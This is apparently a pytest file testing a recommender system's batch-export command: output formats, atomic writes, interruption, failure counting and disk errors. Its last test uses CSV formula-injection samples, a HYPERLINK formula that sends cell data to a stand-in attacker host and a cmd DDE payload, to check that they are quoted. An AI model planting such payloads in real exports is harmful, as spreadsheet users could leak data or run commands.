"""`recsys recommend-batch OUT`: every user's list written to one file, each exactly what `recsys recommend USER` (and
the API) gives; OUT appears whole at the end or not at all (Ctrl-C, SIGTERM, an error), one user's failure is said
and counted without ending the run, and a failure of the whole job (the store down) is one error line."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from recsys.errors import RecsysError, StoreUnavailable
from recsys.serving import batch
from recsys.serving.results import ScoredItem
from tests.conftest import run_cli
from tests.e2e_fixture import built_demo, private_home

CLOCK = "2026-03-01T00:00:00"


def _main(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """The real ``recsys.cli.main()`` with ``args`` (settings read afresh): exit status, stdout, stderr."""
    return run_cli(monkeypatch, capsys, *args)


class _Rec:
    """A recommender answering ``k`` made-up items per user; ``fail``: a user whose list raises, ``stop_after``:
    Ctrl-C once that many lists were made."""

    def __init__(self, fail: dict[str, Exception] | None = None, stop_after: int | None = None) -> None:
        served = SimpleNamespace(ranker=SimpleNamespace(ranker_id="ranker-t"),
                                 reader=SimpleNamespace(generation_id="gen-t"))
        self.generations = SimpleNamespace(current=lambda: served, no_ranker=lambda: RecsysError("no ranker"))
        self.store, self.fail, self.stop_after, self.calls = None, fail or {}, stop_after, 0

    def clock(self, served: Any = None, now: Any = None) -> float:
        return 20513.5  # 2026-03-01T12:00

    def recommend(self, user_id: str, k: int, **_kw: Any) -> list[ScoredItem]:
        if self.stop_after is not None and self.calls >= self.stop_after:
            raise KeyboardInterrupt
        self.calls += 1
        if user_id in self.fail:
            raise self.fail[user_id]
        return [ScoredItem(f"{user_id}-item{n}", round(1.0 / n, 6), ["interest"], None, {"title": "t"})
                for n in range(1, k + 1)]


USERS = ["u1", "u2", "u3", "u4"]


@pytest.fixture
def fake(home: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """``fake(rec)``: the CLI ranks with ``rec``; the store has USERS."""
    from recsys.cli import pipeline

    monkeypatch.setattr(batch, "stored_users", lambda store: list(USERS))
    monkeypatch.setattr(batch, "known_users", lambda store, ids: set(ids) & set(USERS))

    def use(rec: _Rec) -> _Rec:
        monkeypatch.setattr(pipeline, "_recommender", lambda: rec)
        return rec

    return use


def _lines(path: Path) -> list[dict[str, Any]]:
    opener: Any = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8") as f:
        return [json.loads(ln) for ln in f]


def test_output_format_by_name_and_users_file(tmp_path: Path) -> None:
    assert batch.output_format(Path("a.jsonl")) == ("jsonl", False)
    assert batch.output_format(Path("a.CSV.gz")) == ("csv", True)
    with pytest.raises(RecsysError, match=r"\.jsonl or \.csv"):
        batch.output_format(Path("a.json"))
    users = tmp_path / "users.txt"
    users.write_text("\ufeff#vip-42\nu1\n\n  u2  \nline\u2028sep\nnel\x85x\nu1\r\nghost\n", encoding="utf-8")
    # BOM, blanks and repeats; an id may start with "#" or hold other line breaks (the importer takes both)
    assert batch.read_user_ids(users) == ["#vip-42", "u1", "u2", "line\u2028sep", "nel\x85x", "ghost"]


def test_every_user_in_jsonl_with_the_runs_ranker_and_summary(fake: Any, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec())
    out = tmp_path / "lists.jsonl"
    code, stdout, err = _main(monkeypatch, capsys, "recommend-batch", str(out), "--k", "2", "--json")
    assert code == 0, err
    got = _lines(out)
    assert [g["user_id"] for g in got] == USERS and all(g["known"] for g in got)
    assert got[0]["items"] == [{"item_id": "u1-item1", "score": 1.0, "sources": ["interest"]},  # no item details
                               {"item_id": "u1-item2", "score": 0.5, "sources": ["interest"]}]
    assert {(g["ranker"], g["index_generation"], g["ranked_at"]) for g in got} == {
        ("ranker-t", "gen-t", "2026-03-01T12:00:00+00:00")}
    report = json.loads(stdout.splitlines()[-1])
    assert {k: report[k] for k in ("users", "written", "failed", "unknown")} == {"users": 4, "written": 4, "failed": 0,
                                                                                 "unknown": 0}
    assert "recommend-batch: starting" in err and "recommend-batch: users 4/4, " in err and "users/s, ETA" in err


def test_users_file_csv_and_gz(fake: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                               capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec())
    users = tmp_path / "users.txt"
    users.write_text("u2\nghost\n", encoding="utf-8")
    code, stdout, _ = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.jsonl.gz"), "--users",
                            str(users), "--k", "1")
    assert code == 0 and "(1 unknown: the trending list)" in stdout
    assert [(g["user_id"], g["known"]) for g in _lines(tmp_path / "l.jsonl.gz")] == [("u2", True), ("ghost", False)]
    assert _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.csv.gz"), "--users", str(users),
                 "--k", "2")[0] == 0
    with gzip.open(tmp_path / "l.csv.gz", "rt", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [["user_id", "rank", "item_id", "score"], ["u2", "1", "u2-item1", "1.0"],
                    ["u2", "2", "u2-item2", "0.5"], ["ghost", "1", "ghost-item1", "1.0"],
                    ["ghost", "2", "ghost-item2", "0.5"]]


def test_an_existing_out_is_refused_without_force(fake: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    rec = fake(_Rec())
    out = tmp_path / "lists.csv"
    out.write_text("yesterday's\n")
    code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(out))
    assert code == 2 and "exists: pass --force" in err and "starting" not in err
    assert out.read_text() == "yesterday's\n" and rec.calls == 0
    assert _main(monkeypatch, capsys, "recommend-batch", str(out), "--force", "--k", "1")[0] == 0
    assert out.read_text().splitlines()[1] == "u1,1,u1-item1,1.0"


@pytest.mark.parametrize("existing", [False, True])
def test_an_interrupted_run_leaves_no_out_and_no_temporary_file(fake: Any, tmp_path: Path, existing: bool,
                                                                 monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec(stop_after=2))  # Ctrl-C while the third user ranks
    out = tmp_path / "out" / "lists.jsonl"
    out.parent.mkdir()
    if existing:
        out.write_text("yesterday's\n")
    code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(out), *(["--force"] if existing else []))
    assert code == 130 and err.splitlines()[-1].startswith("interrupted; ")
    assert [p.name for p in out.parent.iterdir()] == (["lists.jsonl"] if existing else [])
    if existing:
        assert out.read_text() == "yesterday's\n"


def test_a_users_failure_is_said_and_counted_and_the_run_goes_on(fake: Any, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec(fail={"u2": RecsysError("the list could not be made")}))
    out = tmp_path / "lists.jsonl"
    code, stdout, err = _main(monkeypatch, capsys, "recommend-batch", str(out), "--json")
    assert code == 1
    assert "failed 'u2': [error] the list could not be made" in err
    assert [g["user_id"] for g in _lines(out)] == ["u1", "u3", "u4"]
    report = json.loads(stdout.splitlines()[-1])
    assert (report["users"], report["written"], report["failed"]) == (4, 3, 1)
    assert report["failures"] == [{"user_id": "u2", "code": "error", "message": "the list could not be made"}]


def test_the_store_down_ends_the_whole_job_with_nothing_written(fake: Any, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec(fail={"u2": StoreUnavailable("the database is unreachable")}))
    code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "lists.jsonl"))
    assert code == 2 and "error [store_down]: the database is unreachable" in err and "failed 'u2'" not in err
    assert not [p.name for p in tmp_path.iterdir() if "lists" in p.name]  # nor a temporary file


@pytest.mark.slow  # the session's e2e demo build
def test_the_files_lists_are_recommends(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from recsys.config import get_settings
    from recsys.service import Recommender
    from recsys.store import Store
    from recsys.store.queries import mark_evaluation_users

    built, _ = built_demo(tmp_path_factory)
    home = private_home(built, tmp_path / "home")
    monkeypatch.setenv("RECSYS_HOME", str(home))
    monkeypatch.setenv("RECSYS_RANKING__CLOCK", CLOCK)
    get_settings.cache_clear()
    rec = Recommender(get_settings(), Store.open(get_settings()))
    try:
        stored = batch.stored_users(rec.store)
        mark_evaluation_users(rec.store, {stored[-1]}, "replay.csv")  # a replayed shopper gets no list
        code, stdout, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "all.jsonl"), "--k", "10",
                                  "--json")
        assert code == 0, err
        lists = {g["user_id"]: g for g in _lines(tmp_path / "all.jsonl")}
        assert list(lists) == stored[:-1] and json.loads(stdout.splitlines()[-1])["written"] == len(stored) - 1

        def ours(user: str, k: int, **kw: Any) -> list[dict[str, Any]]:
            return [{key: v for key, v in r.to_dict().items() if key != "item"} for r in rec.recommend(user, k, **kw)]

        for user in stored[:5]:
            assert lists[user]["items"] == ours(user, 10), user
        for user in stored[:2]:  # and what `recsys recommend USER` prints
            code, stdout, _ = _main(monkeypatch, capsys, "recommend", user, "--k", "10", "--json")
            printed = [{key: v for key, v in r.items() if key != "item"} for r in json.loads(stdout.splitlines()[-1])]
            assert code == 0 and lists[user]["items"] == printed
        users = tmp_path / "users.txt"
        users.write_text(f"{stored[3]}\nnobody-at-all\n\n{stored[0]}\n", encoding="utf-8")
        for name in ("some.jsonl", "some.csv.gz"):
            explain = ["--explain"] if name.endswith(".jsonl") else []
            code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / name), "--users", str(users),
                                 "--k", "5", *explain)
            assert code == 0, err
        some = _lines(tmp_path / "some.jsonl")
        assert [(g["user_id"], g["known"]) for g in some] == [(stored[3], True), ("nobody-at-all", False),
                                                              (stored[0], True)]
        for g in some:
            assert g["items"] == ours(g["user_id"], 5, explain=True), g["user_id"]
        assert "trending" in some[1]["items"][0]["sources"]  # the unknown user's list: what the API gives one
        with gzip.open(tmp_path / "some.csv.gz", "rt", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert [(r["user_id"], r["item_id"]) for r in rows] == [(g["user_id"], it["item_id"]) for g in some
                                                                for it in g["items"]]
    finally:
        rec.store.dispose()
        get_settings.cache_clear()


def test_the_gzip_header_names_out_not_the_temporary_file(fake: Any, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    fake(_Rec())
    assert _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.jsonl.gz"), "--k", "1")[0] == 0
    head = (tmp_path / "l.jsonl.gz").read_bytes()[:64]
    assert b"l.jsonl\x00" in head and b".tmp" not in head  # what `gunzip -N` and 7-Zip extract it as


def test_an_unwritable_place_or_a_full_disk_is_one_error_line(fake: Any, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    rec = fake(_Rec())
    real_access = batch.os.access
    monkeypatch.setattr(batch.os, "access", lambda p, mode: Path(p) != tmp_path and real_access(p, mode))
    code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.jsonl"))
    assert code == 2 and "cannot be written" in err and rec.calls == 0 and "Traceback" not in err
    monkeypatch.setattr(batch.os, "access", real_access)

    def full(*_a: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(batch._Lines, "write", full)
    code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.jsonl"))
    assert code == 2 and "cannot write" in err and "No space left on device" in err and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []  # nor a temporary file


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted() -> None:
    """An id planted through an event (`=HYPERLINK(...)`) must not run when the CSV is opened in a spreadsheet;
    numbers and plain ids are written as they are."""
    f = io.StringIO()
    batch._Lines(f, "csv").write('=HYPERLINK("https://evil.example?c="&A2,"voucher")', True,
                                 [{"item_id": "@SUM(A1)", "score": 1.0}, {"item_id": "-12", "score": 0.5},
                                  {"item_id": "+cmd|' /C calc'!A0", "score": 0.25},
                                  {"item_id": "item-7", "score": 0.1}], {})
    rows = list(csv.reader(io.StringIO(f.getvalue())))[1:]
    assert {r[0] for r in rows} == {'\'=HYPERLINK("https://evil.example?c="&A2,"voucher")'}
    assert [r[2] for r in rows] == ["'@SUM(A1)", "-12", "'+cmd|' /C calc'!A0", "item-7"]
